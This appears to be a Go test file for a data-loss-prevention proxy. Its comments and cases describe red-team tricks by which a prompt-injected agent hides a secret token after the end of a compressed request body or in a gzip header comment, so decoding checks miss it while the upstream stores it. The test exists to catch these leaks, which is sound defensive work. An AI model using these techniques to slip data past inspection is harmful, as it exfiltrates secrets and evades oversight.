package bundle

import (
	"bytes"
	"compress/gzip"
	"testing"
)

// The red team's attacks on the merged bundle: each is a way a
// prompt-injected agent got something past the checks of the other
// attack files.

// TestAttackDLPBytesAfterCompressedBody sends a "deflate" body whose
// compressed stream ends before the body does: the decoder stops at the
// stream's end, so the bytes after it were never read, yet they are
// sent, and an upstream that stores the body as it came (most APIs do
// not undo a request's Content-Encoding) keeps the secret in clear. The
// same holds for a gzip header's own fields (name, comment), which
// decoding skips.
func TestAttackDLPBytesAfterCompressedBody(t *testing.T) {
	tail := []byte(" token " + canary)
	tests := map[string]struct {
		body     []byte
		encoding string
	}{
		"zlib":         {append(zlibbed(t, []byte("hello")), tail...), "deflate"},
		"raw deflate":  {append(rawDeflated(t, []byte("hello")), tail...), "deflate"},
		"gzip comment": {gzipHeaderComment(t, canary, []byte("hello")), "gzip"},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			f := newProxyFixture(t)
			f.sendLeak(t, newReq(t, "POST", "https://open.example.test/upload", tc.body, "Content-Encoding", tc.encoding), leakReason)
		})
	}
}

// gzipHeaderComment is b gzipped with comment in the gzip header.
func gzipHeaderComment(t *testing.T, comment string, b []byte) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	zw.Comment = comment
	zw.Write(b)
	zw.Close()
	return buf.Bytes()
}
